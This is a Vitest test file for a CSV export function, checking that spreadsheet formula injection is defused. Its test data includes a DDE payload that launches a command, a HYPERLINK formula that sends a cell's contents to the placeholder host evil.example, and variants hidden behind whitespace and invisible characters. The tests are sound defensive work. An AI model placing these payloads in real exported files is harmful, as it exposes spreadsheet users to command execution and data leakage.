import { expect, it } from 'vitest';
import { csv } from './csv.ts';

it('writes no word a spreadsheet would run', () => {
  expect(csv(['=cmd|"x"'], [['@a'], [-1]])).toBe('"\'=cmd|""x"""\r\n\'@a\r\n-1');
});

const starts = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const bodies = ["cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"x")', '1+1', 'SUM(1;2)'];
const before = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\ufeff',
  '\u200b',
  '\u00a0',
  '\0',
  'a;',
  'a\t',
  'a\n',
  '"a";',
  'x; ',
];
const formulas = before.flatMap((blank) =>
  starts.flatMap((start) => bodies.map((body) => `${blank}${start}${body}`)),
);

it(`defuses ${formulas.length} formulas, in every dialect that a spreadsheet may take the file for`, () => {
  const begins = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u;
  const run = formulas.filter((text) => {
    const line = csv(['name'], [[text]]).slice('name\r\n'.length);
    const cell = line.startsWith('"') ? line.slice(1, -1).replaceAll('""', '"') : line;
    return [cell, ...cell.split(/[;\t\r\n]/), ...line.split(/[;\t\r\n]/)].some((part) => begins.test(part));
  });

  expect(run).toEqual([]);
});

it('leaves ordinary words as they are', () => {
  const words = 'checkout-api v1.2+3 (eu-west-1) a=b';
  expect(csv(['a'], [[words]])).toBe(`a\r\n${words}`);
});

it('keeps a gap empty and quotes what needs it', () => {
  expect(csv(['time', 'a, b'], [['2026-11-22T14:00:00Z', null]])).toBe(
    'time,"a, b"\r\n2026-11-22T14:00:00Z,',
  );
});
